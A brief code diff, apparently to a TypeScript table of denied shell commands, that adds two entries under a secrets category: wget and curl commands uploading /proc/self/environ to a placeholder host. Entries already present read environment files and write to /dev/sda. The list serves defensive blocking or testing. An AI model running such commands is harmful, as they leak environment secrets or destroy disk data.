@@ -321,6 +321,8 @@ const denied: Readonly<Record<string, readonly string[]>> = {
     'cp -t /dev/sda x',
   ],
   [secrets]: [
+    'wget --post-file=/proc/self/environ x',
+    'curl -T/proc/self/environ x',
     'cat /proc/1/environ',
     'cat /proc/self/environ',
     'cat < /proc/self/environ',
